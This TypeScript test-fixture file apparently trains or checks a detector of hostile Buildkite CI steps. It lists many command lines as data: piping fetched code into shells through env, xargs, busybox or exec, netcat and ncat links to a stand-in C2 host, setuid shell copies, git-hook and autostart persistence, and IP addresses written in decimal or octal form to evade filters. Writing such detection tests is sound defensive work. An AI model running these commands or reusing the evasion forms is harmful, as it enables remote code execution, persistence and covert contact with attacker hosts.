import { ran, scenarios } from './scenario.ts';

const USER_ENABLE = 'systemctl --user enable updater.service';

function shell(line: string) {
  return ran('buildkite-agent', USER_ENABLE, 'bash', line, 'buildkite-agent');
}

/** A step of Buildkite, whose code is there to read. */
function step(code: string) {
  return shell(`/bin/bash -e -c ${code}`);
}

/** Steps whose code stands elsewhere than in the step: no claim rests on what cannot be read. */
export const unseenStepScenarios = scenarios('ambiguous', 'unseen step', [
  ['a variable', step('"$PAYLOAD"')],
  ['a variable behind another command', step('cd x; $PAYLOAD')],
  ['a variable for a shell', step('sh -c $PAYLOAD')],
  ['what a command writes, as a file', step('bash <(printf x)')],
  ['what a command writes, sourced', step('source <(gunzip -c x.gz)')],
  ['a file as input of an interpreter', step('python3 < x')],
  ['a document as input of an interpreter', step('python3 - <<E')],
  ['a pipe into a shell behind env', step('cat x | env bash')],
  ['a pipe into a shell in a group', step('cat x | { bash; }')],
  ['a pipe into a shell of another host', step('cat x | ssh localhost bash')],
  ['a pipe into Lua', step('cat x | lua -')],
  ['a shell by way of xargs', step('echo x | xargs -I{} sh -c {}')],
  ['a shell by way of find', step('find . -name x -exec sh {} +')],
  ['a program by way of git', step('git -c core.sshCommand=./x fetch')],
  ['a program by way of tar', step('tar xf a.tar --checkpoint=1 --checkpoint-action=exec=./x')],
  ['a program by way of SSH', step('ssh -o ProxyCommand=./x server.example.net')],
  ['a program by way of an editor', step("vim -c '!./x' -c q")],
  ['what was fetched, by an interpreter', step('curl https://x.example.net/a > a; python3 a')],
  ['what was fetched, sourced', step('curl https://x.example.net/a > a; . ./a')],
  ['what was fetched, as a package', step('wget https://x.example.net/a.deb && sudo dpkg -i a.deb')],
  ['what was fetched, by make', step('curl https://x.example.net/a.tgz | tar xz && cd a && make install')],
  ["a program with the owner's rights", step('install -m 4755 /bin/bash /usr/local/bin/b')],
  ['a hook of git', step('echo x >> .git/hooks/post-commit')],
  ['a program of the session', step('echo x > ~/.config/autostart/x.desktop')],
  ['an address as one number', step('curl 3232235777/x -o x')],
  ['a shell without a word', shell('bash')],
  ['a shell that reads its input', shell('bash -s')],
  ['a login shell', shell('bash --login')],
]);

/** As these, with what proves the attack. */
export const maliciousStepScenarios = scenarios('malicious', 'unseen step', [
  ['what is fetched, into a shell behind env', step('curl -s https://x.example.net/a | env bash')],
  [
    'what is fetched, into an interpreter behind env',
    step('curl -s https://x.example.net/a | /usr/bin/env python3'),
  ],
  ['what is fetched, into a shell behind exec', step('curl -s https://x.example.net/a | exec bash')],
  ['what is fetched, into a shell of busybox', step('curl -s https://x.example.net/a | busybox sh')],
  [
    'what is fetched, into a shell by way of xargs',
    step('curl -s https://x.example.net/a | xargs -0 bash -c'),
  ],
  ['what is fetched, into a shell in a group', step('curl -s https://x.example.net/a | (bash)')],
  ['netcat with a flag of its own', step('nc -nv c2.example.net 4444')],
  ['netcat with a flag and its value', step('nc -w 3 c2.example.net 443 < x')],
  ['netcat with TLS', step('ncat --ssl c2.example.net 443')],
  ['a public address as one number', step('curl 3405803785/x -o x')],
  ['a public address in octal numbers', step('curl 0313.0.0161.9/x -o x')],
]);
